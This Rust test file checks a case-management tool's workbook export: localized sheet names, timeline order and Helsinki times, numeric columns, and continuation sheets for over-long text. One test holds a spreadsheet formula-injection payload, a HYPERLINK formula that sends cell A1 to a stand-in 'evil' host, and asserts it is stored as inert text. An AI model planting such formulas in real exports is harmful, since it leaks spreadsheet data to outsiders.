//! The case export as a workbook, read back with calamine: the cases sheet (C27's columns as
//! numbers and date-times), a timeline sheet per case in C17's order, text longer than a
//! cell carried over with a visible marker (C30), and user text never a formula.

#[path = "cases_support.rs"]
mod support;

use calamine::Data;
use chrono_tz::Europe::Helsinki;
use mim_domain::Language;
use mim_domain::case::timeline;
use mim_sheets::cases::{
    CELL_LIMIT, CaseExport, CaseExportRow, LabelledText, TimelineRow, case_workbook,
    normalise_line_breaks,
};
use support::{
    Catalogue, c17_events, c27_rows, fixture, fixture_json, has_formulas, local_datetime,
    local_hhmm, number, read_workbook, sheet, text, utc,
};

fn bare(row: CaseExportRow) -> CaseExport {
    CaseExport {
        row,
        fields: vec![],
        timeline: vec![],
    }
}

fn c17_export(lang: Language) -> CaseExport {
    let words = Catalogue::load(lang);
    let lookup = |k: &str| words.t(k);
    let entries = timeline(&c17_events());
    let mut row = c27_rows().remove(0);
    row.id = "MIM-2026-0017".into();
    CaseExport {
        row,
        fields: vec![],
        timeline: entries
            .iter()
            .map(|e| TimelineRow::from_entry(e, Helsinki, lang, &lookup))
            .collect(),
    }
}

#[test]
fn c17_timeline_sheet_keeps_the_domain_order_local_times_and_the_added_later_mark() {
    let bytes = case_workbook(&[c17_export(Language::Fi)], Helsinki, Language::Fi).unwrap();
    let sheets = read_workbook(&bytes);
    let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, vec!["Tapaukset", "MIM-2026-0017"]);
    let rows = sheet(&sheets, "MIM-2026-0017");
    let headings: Vec<&str> = rows[0].iter().map(text).collect();
    assert_eq!(
        headings,
        vec![
            "Nro",
            "Aika",
            "Tapahtuma",
            "Tiedot",
            "Tekijä",
            "Lisätty jälkikäteen",
            "Kirjattu"
        ]
    );
    let expected = fixture_json("C17-timeline-events.json");
    let order: Vec<u64> = rows[1..].iter().map(|r| number(&r[0]) as u64).collect();
    let expected_order: Vec<u64> = expected["expected_order_seq"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_u64().unwrap())
        .collect();
    assert_eq!(order, expected_order);
    assert_eq!(order, vec![5, 6, 1, 2, 3, 4, 8, 7]);
    let times: Vec<String> = rows[1..].iter().map(|r| local_hhmm(&r[1])).collect();
    assert_eq!(
        times,
        vec![
            "09:05", "09:10", "09:15", "09:15", "09:30", "09:40", "09:40", "10:02"
        ]
    );
    for (seq, time) in order.iter().zip(&times) {
        assert_eq!(
            expected["expected_local_times_Europe_Helsinki"][seq.to_string()],
            time.as_str()
        );
    }
    let marks: Vec<(u64, &str)> = rows[1..]
        .iter()
        .map(|r| (number(&r[0]) as u64, text(&r[5])))
        .collect();
    for (seq, mark) in marks {
        let want = if seq == 5 {
            "lisätty jälkikäteen"
        } else {
            ""
        };
        assert_eq!(mark, want, "seq {seq}");
    }
    // The back-filled note: its own words, recorded at 11:00 local.
    let note = &rows[1];
    assert_eq!(text(&note[2]), "Muistiinpano");
    assert!(text(&note[3]).contains("jo klo 9.05"));
    assert_eq!(text(&note[4]), "Päivi Päivystäjä (tukipalvelu)");
    assert_eq!(local_datetime(&note[6]), "2026-02-10 11:00");
}

#[test]
fn timeline_headings_and_mark_are_the_catalogue_words_in_every_language() {
    for lang in Language::ALL {
        let words = Catalogue::load(lang);
        let bytes = case_workbook(&[c17_export(lang)], Helsinki, lang).unwrap();
        let sheets = read_workbook(&bytes);
        let rows = sheet(&sheets, "MIM-2026-0017");
        for (col, key) in [
            (1, "label-when"),
            (2, "label-what"),
            (3, "label-details"),
            (4, "label-who"),
        ] {
            assert_eq!(Some(text(&rows[0][col])), words.get(key), "{lang} {key}");
        }
        assert_eq!(Some(text(&rows[1][5])), words.get("label-added-later"));
        assert_eq!(
            text(&rows[0][5]).to_lowercase(),
            words.get("label-added-later").unwrap().to_lowercase()
        );
    }
}

#[test]
fn cases_sheet_has_the_csv_columns_as_numbers_and_local_date_times() {
    let cases: Vec<CaseExport> = c27_rows().into_iter().map(bare).collect();
    let bytes = case_workbook(&cases, Helsinki, Language::Fi).unwrap();
    let sheets = read_workbook(&bytes);
    let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        vec![
            "Tapaukset",
            "MIM-2026-0001",
            "MIM-2026-0002",
            "MIM-2026-0003",
            "MIM-2026-0004",
            "MIM-2026-0005"
        ]
    );
    let rows = sheet(&sheets, "Tapaukset");
    let headings: Vec<&str> = rows[0].iter().map(text).collect();
    let csv = String::from_utf8(fixture("C27-expected-fi-excel.csv")).unwrap();
    let csv_headings: Vec<&str> = csv
        .trim_start_matches('\u{feff}')
        .lines()
        .next()
        .unwrap()
        .split(';')
        .collect();
    assert_eq!(headings, csv_headings);
    let dst = &rows[3];
    assert_eq!(text(&dst[0]), "MIM-2026-0003");
    assert_eq!(text(&dst[2]), "Rivi 1\nRivi 2");
    assert_eq!(text(&dst[3]), "vihreä");
    assert_eq!(number(&dst[4]), 3.0);
    assert_eq!(number(&dst[5]), 13.0);
    assert_eq!(local_datetime(&dst[6]), "2026-10-25 02:30");
    assert_eq!(local_datetime(&dst[7]), "2026-10-25 14:30");
    let hours: Vec<f64> = rows[1..].iter().map(|r| number(&r[5])).collect();
    assert_eq!(hours, vec![1.5, 0.25, 13.0, 2.75, 0.1]);
    assert_eq!(number(&rows[1][4]), 1200.0);
}

#[test]
fn user_text_is_never_a_formula_and_keeps_no_apostrophe() {
    let cases: Vec<CaseExport> = c27_rows().into_iter().map(bare).collect();
    let bytes = case_workbook(&cases, Helsinki, Language::Fi).unwrap();
    assert!(!has_formulas(&bytes));
    let sheets = read_workbook(&bytes);
    let rows = sheet(&sheets, "Tapaukset");
    assert_eq!(
        text(&rows[4][2]),
        "=HYPERLINK(\"http://evil.example.invalid/?x=\"&A1;\"Klikkaa\")"
    );
    assert_eq!(text(&rows[5][2]), "-20 °C pakkanen kaatoi kassapäätteet");
}

#[test]
fn sheet_names_follow_the_language_and_stay_valid() {
    let mut odd = c27_rows().remove(0);
    odd.id = "'History'".into();
    let mut long = c27_rows().remove(1);
    long.id = "A/very:long*case?id[with]odd\\characters".into();
    let mut twin = c27_rows().remove(1);
    twin.id = long.id.clone();
    for (lang, first) in [
        (Language::Fi, "Tapaukset"),
        (Language::Sv, "Ärenden"),
        (Language::En, "Cases"),
    ] {
        let cases = vec![bare(odd.clone()), bare(long.clone()), bare(twin.clone())];
        let bytes = case_workbook(&cases, Helsinki, lang).unwrap();
        let sheets = read_workbook(&bytes);
        let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(
            names,
            vec![
                first,
                "_History",
                "A_very_long_case_id_with_odd_ch",
                "A_very_long_case_id_with_od (2)"
            ]
        );
    }
}

/// Follows a cell's continuation markers through the continuation sheet; the pieces without
/// their markers concatenated.
fn follow(
    sheets: &[(String, Vec<Vec<Data>>)],
    first: &str,
    continuation_sheet: &str,
    word: &str,
) -> (String, usize) {
    let rows = sheet(sheets, continuation_sheet);
    let marker_start = format!("… ({word}: {continuation_sheet}!C");
    let mut whole = String::new();
    let mut cell = first.to_owned();
    let mut pieces = 1;
    loop {
        let Some(at) = cell.rfind(&marker_start) else {
            whole.push_str(&cell);
            return (whole, pieces);
        };
        let reference = &cell[at + marker_start.len()..];
        let row: usize = reference
            .strip_suffix(')')
            .and_then(|r| r.parse().ok())
            .expect("a marker names a row");
        whole.push_str(&cell[..at]);
        cell = text(&rows[row - 1][2]).to_owned();
        pieces += 1;
    }
}

fn assert_no_cell_too_long(sheets: &[(String, Vec<Vec<Data>>)]) {
    for (name, rows) in sheets {
        for row in rows {
            for cell in row {
                if let Data::String(s) = cell {
                    assert!(
                        s.chars().count() <= CELL_LIMIT,
                        "{name}: a cell is too long"
                    );
                    assert!(s.encode_utf16().count() <= CELL_LIMIT, "{name}: too long");
                }
            }
        }
    }
}

#[test]
fn c30_long_pir_text_is_carried_over_with_a_visible_marker() {
    let raw = String::from_utf8(fixture("C30-long-pir-text.txt")).unwrap();
    assert_eq!(raw.chars().count(), 40_000);
    assert_eq!(raw.matches("\r\n").count(), 238);
    let narrative = normalise_line_breaks(&raw).into_owned();
    assert_eq!(narrative.chars().count(), 39_762);

    let mut row = c27_rows().remove(2);
    row.id = "MIM-2026-0030".into();
    let case = CaseExport {
        row,
        fields: vec![
            LabelledText::new("Vaihe", "Läpikävely"),
            LabelledText::new("Läpikävely", raw.clone()),
            LabelledText::new("Muistiinpanot", "Loppu hyvin"),
        ],
        timeline: vec![TimelineRow {
            seq: 1,
            occurred_at: utc("2026-10-26T08:00:00Z"),
            recorded_at: utc("2026-10-26T08:00:00Z"),
            added_later: false,
            what: "Löydös".into(),
            details: raw.clone(),
            who: "Tiina Tietohallinto (tietohallinto)".into(),
        }],
    };
    let bytes = case_workbook(&[case], Helsinki, Language::Fi).unwrap();
    let sheets = read_workbook(&bytes);
    let names: Vec<&str> = sheets.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, vec!["Tapaukset", "MIM-2026-0030", "Jatko"]);
    assert_no_cell_too_long(&sheets);

    let cases = sheet(&sheets, "Tapaukset");
    let headings: Vec<&str> = cases[0].iter().map(text).collect();
    assert_eq!(&headings[8..], ["Vaihe", "Läpikävely", "Muistiinpanot"]);
    let pir = text(&cases[1][9]);
    assert!(
        pir.ends_with("… (jatkuu: Jatko!C2)"),
        "{}",
        &pir[pir.len() - 60..]
    );
    let (whole, pieces) = follow(&sheets, pir, "Jatko", "jatkuu");
    assert_eq!(pieces, 2);
    assert_eq!(whole, narrative);

    let timeline = sheet(&sheets, "MIM-2026-0030");
    let details = text(&timeline[1][3]);
    assert!(details.ends_with("… (jatkuu: Jatko!C3)"));
    let (whole, _) = follow(&sheets, details, "Jatko", "jatkuu");
    assert_eq!(whole, narrative);

    // The continuation sheet says where each piece belongs.
    let jatko = sheet(&sheets, "Jatko");
    assert_eq!(
        jatko[0].iter().map(text).collect::<Vec<_>>(),
        ["Solu", "Osa", "Teksti"]
    );
    assert_eq!(text(&jatko[1][0]), "Tapaukset!J2");
    assert_eq!(text(&jatko[1][1]), "2/2");
    assert_eq!(text(&jatko[2][0]), "'MIM-2026-0030'!D2");

    // Everything else intact.
    assert_eq!(text(&cases[1][0]), "MIM-2026-0030");
    assert_eq!(text(&cases[1][2]), "Rivi 1\nRivi 2");
    assert_eq!(number(&cases[1][5]), 13.0);
    assert_eq!(text(&cases[1][8]), "Läpikävely");
    assert_eq!(text(&cases[1][10]), "Loppu hyvin");
    assert_eq!(text(&timeline[1][2]), "Löydös");
    assert_eq!(local_hhmm(&timeline[1][1]), "10:00");
}

#[test]
fn text_many_cells_long_is_chained_across_continuation_rows() {
    let raw = String::from_utf8(fixture("C30-long-pir-text.txt")).unwrap();
    // Four times C30 and emoji (two UTF-16 units each): several pieces, counted as Excel does.
    let long = format!("{raw}{raw}{raw}{raw}{}", "🙂".repeat(20_000));
    let case = CaseExport {
        row: c27_rows().remove(0),
        fields: vec![LabelledText::new("Läpikävely", long.clone())],
        timeline: vec![],
    };
    for (lang, sheet_name, word) in [
        (Language::Fi, "Jatko", "jatkuu"),
        (Language::Sv, "Fortsättning", "fortsätter"),
        (Language::En, "Continuation", "continues"),
    ] {
        let bytes = case_workbook(std::slice::from_ref(&case), Helsinki, lang).unwrap();
        let sheets = read_workbook(&bytes);
        assert_no_cell_too_long(&sheets);
        let first = text(&sheet(&sheets, sheets[0].0.as_str())[1][8]).to_owned();
        let (whole, pieces) = follow(&sheets, &first, sheet_name, word);
        assert!(pieces >= 7, "{pieces} pieces");
        assert_eq!(whole, normalise_line_breaks(&long));
    }
}
